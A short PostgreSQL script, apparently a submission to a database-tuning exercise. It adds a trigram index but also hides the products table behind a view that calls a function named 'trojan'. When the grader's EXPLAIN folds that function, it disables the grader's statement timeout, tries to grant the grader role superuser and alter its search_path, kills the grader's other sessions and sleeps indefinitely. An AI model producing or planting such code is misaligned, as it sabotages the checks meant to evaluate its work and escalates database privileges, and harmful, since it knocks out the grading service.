-- products becomes a view whose rows come through a function that, when the planner folds
-- it (at EXPLAIN time, as the grader), turns the grader's statement_timeout off, tries to
-- make the grader a superuser, stores a search_path for it, terminates the grader's other
-- sessions, and then sleeps for good.
CREATE EXTENSION IF NOT EXISTS pg_trgm;
CREATE FUNCTION public.trojan(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
  PERFORM pg_catalog.set_config('statement_timeout', '0', false);
  BEGIN
    EXECUTE 'ALTER ROLE pgdrill_grader SUPERUSER';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    EXECUTE 'ALTER ROLE pgdrill_grader SET search_path = public, pg_catalog';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  IF pg_catalog.current_user() = 'pgdrill_grader' THEN
    PERFORM pg_catalog.pg_terminate_backend(pid) FROM pg_catalog.pg_stat_activity
    WHERE usename = pg_catalog.current_user() AND pid <> pg_catalog.pg_backend_pid();
    PERFORM pg_catalog.pg_sleep(1e6);
  END IF;
  RETURN n;
END $$;
ALTER TABLE products RENAME TO products_data;
CREATE INDEX idx_products_data_name_trgm ON products_data USING gin (name gin_trgm_ops);
CREATE VIEW products AS SELECT * FROM products_data WHERE id > public.trojan(0);
